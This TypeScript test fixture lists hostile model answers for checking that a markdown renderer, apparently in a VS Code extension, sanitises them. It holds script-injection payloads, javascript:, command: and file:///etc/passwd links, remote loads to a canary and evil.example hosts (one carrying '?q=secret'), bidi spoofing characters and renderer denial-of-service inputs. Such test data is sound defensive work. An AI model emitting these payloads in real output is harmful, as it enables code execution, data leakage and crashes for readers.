/** Answers that a model could give to harm whoever reads them, and what must be left of each. */
export interface HostileAnswer {
  readonly name: string;
  readonly text: string;
  /** Must be readable in what is shown, where the answer has words at all. */
  readonly shows?: string;
}

const canary = 'http://127.0.0.1:1/canary';
const run = "window.__ran='yes'";

export const hostileAnswers: readonly HostileAnswer[] = [
  { name: 'script tag', text: `<script>${run}</script>after`, shows: 'after' },
  { name: 'script tag with an address', text: `<script src="${canary}.js"></script>after`, shows: 'after' },
  { name: 'script in a list', text: `- one\n- <script>${run}</script>`, shows: 'one' },
  { name: 'command link', text: '[open](command:workbench.action.quit)', shows: 'open' },
  { name: 'command autolink', text: '<command:workbench.action.terminal.new>', shows: 'command:' },
  {
    name: 'command link by reference',
    text: '[open][c]\n\n[c]: command:workbench.action.quit',
    shows: 'open',
  },
  { name: 'vscode link', text: '[open](vscode://conduit-router.conduit/x)', shows: 'open' },
  { name: 'javascript link', text: `[open](javascript:${run})`, shows: 'open' },
  { name: 'javascript link, hidden letters', text: `[open](&#106;avascript&colon;${run})`, shows: 'open' },
  { name: 'javascript link, with a tab', text: `<a href="java\tscript:${run}">open</a>`, shows: 'open' },
  { name: 'data link', text: '[open](data:text/html,<script>parent.__ran=1</script>)', shows: 'open' },
  { name: 'file link', text: '[open](file:///etc/passwd)', shows: 'open' },
  { name: 'remote image', text: `![chart](${canary}.png?q=secret)`, shows: 'chart' },
  { name: 'remote image by reference', text: `![chart][i]\n\n[i]: ${canary}.png`, shows: 'chart' },
  { name: 'image tag', text: `<img src="${canary}.png" onerror="${run}">after`, shows: 'after' },
  {
    name: 'image set',
    text: `<picture><source srcset="${canary}.webp"><img srcset="${canary} 2x"></picture>`,
  },
  { name: 'data image', text: '![x](data:image/svg+xml,<svg onload="parent.__ran=1"/>)', shows: 'x' },
  {
    name: 'svg onload',
    text: `<svg onload="${run}"><image href="${canary}.png"/></svg>after`,
    shows: 'after',
  },
  { name: 'svg animation', text: `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>` },
  { name: 'math confusion', text: `<math><mtext><table><mglyph><style><img src=x onerror="${run}">` },
  { name: 'link in a formula', text: `\\(\\href{javascript:${run}}{open}\\)`, shows: 'open' },
  {
    name: 'HTML in a formula',
    text: `$$\\text{<img src=x onerror="${run}"></math><script>${run}</script>after}$$`,
    shows: 'after',
  },
  { name: 'formula that grows', text: '$$\\def\\a{\\a\\a}\\a after$$', shows: 'after' },
  { name: 'formula of endless powers', text: `$$${'x^{'.repeat(1_600)}$$ after`, shows: 'after' },
  {
    name: 'endless formulas',
    text: `${Array.from({ length: 9_000 }, (_, number) => `$x_{${String(number)}}$`).join(' ')} after`,
    shows: 'after',
  },
  {
    name: 'folded text that runs',
    text: `<details ontoggle="${run}">\n\nafter\n\n</details>`,
    shows: 'after',
  },
  { name: 'iframe', text: `<iframe src="${canary}"></iframe>after`, shows: 'after' },
  { name: 'iframe with a document', text: `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>` },
  { name: 'object and embed', text: `<object data="${canary}"></object><embed src="${canary}">` },
  {
    name: 'video and audio',
    text: `<video src="${canary}" autoplay></video><audio src="${canary}"></audio>`,
  },
  {
    name: 'form',
    text: `<form action="${canary}"><button autofocus onfocus="${run}">OK</button></form>`,
    shows: 'OK',
  },
  {
    name: 'meta refresh',
    text: `<meta http-equiv="refresh" content="0;url=${canary}">after`,
    shows: 'after',
  },
  { name: 'base address', text: `<base href="${canary}/">[a](b)`, shows: 'a' },
  {
    name: 'style sheet',
    text: `<link rel=stylesheet href="${canary}.css"><style>@import url(${canary})</style>`,
  },
  { name: 'CSS url()', text: `<p style="background:url(${canary}.png)">after</p>`, shows: 'after' },
  {
    name: 'CSS over everything',
    text: '<div style="position:fixed;inset:0;z-index:9">after</div>',
    shows: 'after',
  },
  {
    name: 'prefetch',
    text: `<link rel=prefetch href="${canary}"><link rel=dns-prefetch href="//evil.example">`,
  },
  { name: 'details that runs', text: `<details open ontoggle="${run}">after</details>`, shows: 'after' },
  { name: 'handler in code', text: `\`\`\`"onmouseover="${run}\nafter\n\`\`\``, shows: 'after' },
  {
    name: 'clobbered document',
    text: '<a id=root name=querySelector>after</a><img name=cookie>',
    shows: 'after',
  },
  { name: 'bidi in prose', text: 'safe \u202egnp.exe\u202c after', shows: 'after' },
  { name: 'bidi in code', text: '```js\nif (admin /*\u2066 \u202e} after */) {}\n```', shows: 'U+202E' },
  { name: 'bidi in inline code', text: 'run `a\u202eb`', shows: 'run' },
  { name: 'zero width', text: '```js\nconst a\u200b = "\u2060pass\u200dword";\n```', shows: 'U+200B' },
  {
    name: 'ANSI sequences',
    text: '\u001b[2J\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007x',
    shows: 'red',
  },
  { name: 'control characters', text: 'a\u0000b\u0008c\u007f after', shows: 'after' },
  { name: 'lone surrogates', text: '\ud800 after \udfff', shows: 'after' },
  { name: 'stacked accents', text: `Z${'\u0301'.repeat(5_000)} after`, shows: 'after' },
  { name: 'unclosed fence', text: `\`\`\`html\n<img src=x onerror="${run}">\nafter`, shows: 'after' },
  { name: 'fence in fence', text: '````md\n```html\n<script>parent.__ran=1</script>\n```', shows: 'script' },
  { name: 'unclosed link', text: `[a](${'('.repeat(20_000)}`, shows: 'a' },
  {
    name: 'huge table',
    text: `|${'a|'.repeat(100)}\n|${'-|'.repeat(100)}\n${`|${'x|'.repeat(100)}\n`.repeat(300)}`,
  },
  { name: 'wide table', text: `|${'a|'.repeat(5_000)}\n|${'-|'.repeat(5_000)}\n|after|`, shows: 'after' },
  { name: 'endless quotes', text: `${'>'.repeat(20_000)} after`, shows: 'after' },
  {
    name: 'endless lists',
    text: Array.from({ length: 500 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
    shows: 'x',
  },
  { name: 'endless emphasis', text: `${'*a **b '.repeat(15_000)}after`, shows: 'after' },
  { name: 'endless beginnings of images', text: `${'!['.repeat(99_000)}after`, shows: 'after' },
  { name: 'endless brackets', text: `${'['.repeat(60_000)}after`, shows: 'after' },
  { name: 'endless images', text: `${'![]('.repeat(20_000)}after`, shows: 'after' },
  {
    name: 'endless backticks',
    text: Array.from({ length: 400 }, (_, run_) => '`'.repeat(run_ + 1)).join(' a '),
    shows: 'a',
  },
  { name: 'endless entities', text: `${'&amp;'.repeat(30_000)}after`, shows: 'after' },
  { name: 'endless links', text: `${'http://a.example/ '.repeat(8_000)}after`, shows: 'after' },
  { name: 'endless addresses', text: `${'a@'.repeat(60_000)}after`, shows: 'after' },
  {
    name: 'slow for grammars',
    text: `\`\`\`javascript\n${'/'.repeat(1_900)}\n${'a'.repeat(1_900)}(\`\${\n\`\`\``,
  },
  {
    name: 'slow for grammars of markup',
    text: `\`\`\`xml\n${'<a '.repeat(600)}\n${'<!--'.repeat(400)}\n\`\`\``,
  },
  { name: 'one line of 2 MB', text: `${'x'.repeat(2_000_000)} after`, shows: 'after' },
  {
    name: '2 MB of markdown',
    text: `${'**bold** [a](http://a.example) `code`\n\n'.repeat(50_000)}after`,
    shows: 'after',
  },
  { name: '2 MB of code', text: `\`\`\`ts\n${'const a = 1;\n'.repeat(150_000)}after`, shows: 'after' },
];
